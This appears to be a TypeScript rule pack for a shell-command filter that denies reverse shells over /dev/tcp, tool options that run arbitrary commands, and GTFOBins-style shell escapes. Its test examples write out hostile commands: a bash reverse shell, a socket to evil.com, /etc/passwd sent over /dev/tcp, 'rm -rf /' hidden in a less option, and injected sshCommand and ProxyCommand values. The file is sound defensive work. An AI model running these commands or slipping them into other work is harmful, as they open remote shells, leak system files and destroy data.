/** Bypass pack: `/dev/tcp` sockets, options that make ordinary tools run commands, and shell escapes. */

import type {Cmd} from '../../command.js'

import {SHELLS} from '../../normalise.js'
import {commandRule} from '../../rules.js'

export const devTcp = commandRule({
  id: 'bypass.dev-tcp',
  pack: 'bypass',
  decision: 'deny',
  reason: 'opens a network socket through /dev/tcp or /dev/udp (reverse shells)',
  examples: {
    match: [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'exec 3<>/dev/tcp/evil.com/80',
      'cat < /dev/tcp/127.0.0.1/22',
      'echo x > /dev/udp/1.2.3.4/53',
      "sh -c 'cat /etc/passwd > /dev/tcp/x/1'",
    ],
    not_match: ['ls /dev', 'echo tcp'],
  },
  check(cmd) {
    if (/\/dev\/(?:tcp|udp)\//.test(cmd.text)) return true
    for (const w of cmd.args) if (/\/dev\/(?:tcp|udp)\//.test(w.value)) return true
    for (const r of cmd.raw.redirects) if (r.target && /\/dev\/(?:tcp|udp)\//.test(r.target.value)) return true
    return null
  },
})

const GIT_EXEC_KEYS = new RegExp(
  String.raw`^(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy|` +
    String.raw`askpass)|alias\..*|diff\..*\.(?:textconv|command)|filter\..*\.(?:clean|` +
    String.raw`smudge|process)|credential\.helper|protocol\..*\.allow|uploadpack\..*|` +
    String.raw`receivepack\..*|sequence\.editor|gpg\.program|gpg\..*\.program|` +
    String.raw`merge\..*\.driver|include\.path|includeif\..*|init\.templatedir|core\.sshcommand)(?:=|$)`,
  'i',
)

const TAR_EXEC_OPTIONS = new RegExp(
  String.raw`^--(?:to-command|checkpoint-action|use-compress-program|info-script|` +
    String.raw`new-volume-script|rsh-command)(?:=|$)`,
)

/** `less +!cmd` / `less '+|cmd'` run a shell command at start; LESSOPEN pipes every file through one. */
function pagerRunsCommand(cmd: Cmd): null | string {
  // A search (`+/a|b`) is only a pattern.
  const hit = cmd.argv.find((v) => /^\+(?![/?&])[^]*[!|]/.test(v))
  if (hit !== undefined) return `${cmd.name} ${hit}: runs a shell command`
  const open = cmd.assignments.find((x) => /^LESS(?:OPEN|CLOSE)$/.test(x.name))
  return open === undefined ? null : `${cmd.name} with ${open.name}: runs a command on every file`
}

/** gdb commands that run other commands or code, or can (`call system(…)`, `print $_shell(…)`). */
const GDB_RUNS = /^\s*(?:shell|pipe|python|py|pi|source|call|print|p|set|eval|guile|gu)\b|^\s*[!|]/

function toolRunsCommand(cmd: Cmd): null | string {
  const a = cmd.argv
  switch (cmd.name) {
    case 'tar': {
      const hit = a.find((v) => TAR_EXEC_OPTIONS.test(v) || /^-[A-Za-z]*[IF]$/.test(v))
      return hit ? `tar ${hit}` : null
    }

    case 'git': {
      for (let i = 0; i < a.length; i++) {
        const v = a[i] as string
        if (v === '-c' && GIT_EXEC_KEYS.test(a[i + 1] ?? '')) return `git -c ${a[i + 1]}`
        if (/^--config(?:-env)?=/.test(v) && GIT_EXEC_KEYS.test(v.replace(/^--config(?:-env)?=/, ''))) return `git ${v}`
        if (/^--(?:upload-pack|receive-pack|exec)(?:=|$)/.test(v) || v.startsWith('ext::')) return `git ${v}`
      }

      const sub = a.indexOf('config')
      if (sub !== -1) {
        const key = a.slice(sub + 1).find((v) => !v.startsWith('-'))
        const writes = a.slice(sub + 1).filter((v) => !v.startsWith('-')).length >= 2 || a.includes('--add')
        if (key !== undefined && writes && GIT_EXEC_KEYS.test(key)) return `git config ${key}`
      }

      return null
    }

    case 'ssh':
    case 'scp':
    case 'sftp':
    case 'rsync': {
      for (let i = 0; i < a.length; i++) {
        const v = a[i] as string
        const opt = v === '-o' ? (a[i + 1] ?? '') : v.startsWith('-o') ? v.slice(2) : ''
        if (/^(?:ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|ProxyUseFdpass)/i.test(opt))
          return `${cmd.name} -o ${opt}`
        if (cmd.name === 'scp' && v === '-S') return `scp -S ${a[i + 1] ?? ''}`
        if (cmd.name === 'rsync') {
          const rsh = v === '-e' ? a[i + 1] : /^--rsh=(.*)$/.exec(v)?.[1]
          if (rsh !== undefined && !/^(?:ssh|rsh)(?:\s|$)/.test(rsh)) return `rsync -e ${rsh}`
        }
      }

      return null
    }

    case 'npm':
    case 'pnpm':
    case 'yarn': {
      // The shell (or editor) the package manager starts for every script: set to a file, it runs that file.
      const at = a.findIndex((v, i) => v === 'config' && /^set$/.test(a[i + 1] ?? ''))
      const key = at === -1 ? undefined : a[at + 2]?.split('=')[0]
      return key !== undefined && /^(?:script-shell|shell|scriptShell|editor|browser)$/.test(key)
        ? `${cmd.name} config set ${key}`
        : null
    }

    case 'zip': {
      return a.some((v) => v === '-TT' || v.startsWith('--unzip-command')) ? 'zip -TT' : null
    }

    case 'vim':
    case 'vi':
    case 'nvim':
    case 'ex':
    case 'view':
    case 'gvim': {
      const hit = a.find(
        (v, i) =>
          (/^\+/.test(v) || a[i - 1] === '-c' || a[i - 1] === '--cmd') && /!|system\(|:r\s*!|py|lua|call\s/.test(v),
      )
      return hit ? `${cmd.name} runs ${hit}` : null
    }

    case 'gdb': {
      // `-ex run -ex bt` debugs the program; `-ex 'shell …'`, `!`, python or a command file can run anything.
      for (let i = 0; i < a.length; i++) {
        const v = a[i] as string
        const inline = /^(?:-ex|--eval-command|-iex|--init-eval-command)(?:=(.*))?$/.exec(v)
        if (/^(?:-x|--command|-ix|--init-command)(?:=|$)/.test(v)) return 'gdb runs a command file'
        const text = inline ? (inline[1] ?? a[i + 1] ?? '') : undefined
        // `run` starts the program through a shell: metacharacters in its arguments run too.
        if (text !== undefined && (GDB_RUNS.test(text) || /^\s*(?:run|r|start)\b.*[;&|`$<>]/.test(text)))
          return `gdb -ex ${text}: runs commands`
      }

      return null
    }

    case 'less':
    case 'more':
    case 'most': {
      return pagerRunsCommand(cmd)
    }

    case 'tcpdump': {
      return a.includes('-z') ? 'tcpdump -z runs a command' : null
    }

    case 'man': {
      return a.some((v) => /^(?:-P|--pager|-H|--html)/.test(v)) ? 'man with a custom pager' : null
    }

    case 'sed': {
      const scripts = a.filter((v, i) => !v.startsWith('-') || a[i - 1] === '-e')
      const hit = scripts.find(
        (s) =>
          /(?:^|[;\n{}])\s*(?:\d+|\$|\/[^/]*\/)?\s*e(?:\s|$|;)/.test(s) ||
          /s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpIiMm0-9w]*e/.test(s),
      )
      return hit ? `sed runs commands (${hit})` : null
    }

    case 'nmap': {
      return a.some((v) => v.startsWith('--script')) ? 'nmap --script' : null
    }

    default: {
      return null
    }
  }
}

export const toolRuns = commandRule({
  id: 'bypass.tool-runs-command',
  pack: 'bypass',
  decision: 'deny',
  reason: 'an option that makes an ordinary tool run an arbitrary command',
  programs: [
    'tar',
    'git',
    'ssh',
    'scp',
    'sftp',
    'rsync',
    'zip',
    'vim',
    'vi',
    'nvim',
    'ex',
    'view',
    'gvim',
    'gdb',
    'tcpdump',
    'man',
    'sed',
    'nmap',
    'less',
    'more',
    'most',
    'npm',
    'pnpm',
    'yarn',
  ],
  examples: {
    match: [
      'npm config set script-shell /tmp/x.sh',
      'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh',
      'git -c core.sshCommand="sh -c id" fetch',
      'git config core.hooksPath /tmp/h',
      'ssh -o ProxyCommand="sh -c id" x',
      'zip x.zip f -T -TT "sh -c id"',
      'vim -c ":!id" -c ":q"',
      "sed -n '1e id' f",
      'git clone ext::sh -c id',
      'rsync -e "sh -c id" a b',
      'less +!id file',
      "less '+!rm -rf /' README.md",
      "LESSOPEN='|sh -c id %s' less f",
    ],
    not_match: [
      'tar -czf out.tgz ./src',
      'npm config set registry https://registry.npmjs.org/',
      'npm config get script-shell',
      'git status',
      'git config user.name me',
      'ssh -o StrictHostKeyChecking=no localhost',
      "sed -i 's/a/b/g' f",
      'vim file.txt',
      'rsync -e "ssh -p 2222" ./a localhost:b',
      'less +G app.log',
      'less +/ERROR|WARN app.log',
      'less -R out.txt',
    ],
  },
  check: (cmd) => toolRunsCommand(cmd),
})

/** Tools GTFOBins lists as shell escapes when they start a shell of their own. */
const ESCAPE_TOOLS = new Set([
  'find',
  'xargs',
  'awk',
  'gawk',
  'vim',
  'vi',
  'less',
  'more',
  'man',
  'gdb',
  'git',
  'ftp',
  'nmap',
  'zip',
  'tar',
  'rsync',
  'perl',
  'python',
  'ruby',
  'lua',
  'expect',
  'script',
  'socat',
  'flock',
  'watch',
  'nice',
  'stdbuf',
  'busybox',
])

export const shellEscape = commandRule({
  id: 'bypass.shell-escape',
  pack: 'bypass',
  decision: 'deny',
  reason: 'starts a bare shell through another program (a GTFOBins-style escape)',
  examples: {
    match: [String.raw`find . -exec /bin/sh \; -quit`, 'xargs -a /dev/null sh', 'script -qc /bin/bash /dev/null'],
    not_match: ['bash ./build.sh', String.raw`find . -exec sh -c "wc -l {}" \;`, 'sh -c ls'],
  },
  check(cmd) {
    if (!SHELLS.has(cmd.name) || cmd.code === undefined || cmd.code.kind !== 'stdin') return null
    const tool = cmd.via.map((v) => v.split(' ')[0] ?? '').find((n) => ESCAPE_TOOLS.has(n))
    if (tool === undefined || cmd.raw.redirects.some((r) => r.heredoc || r.op === '<<<')) return null
    return `${tool} starts a bare ${cmd.name}`
  },
})
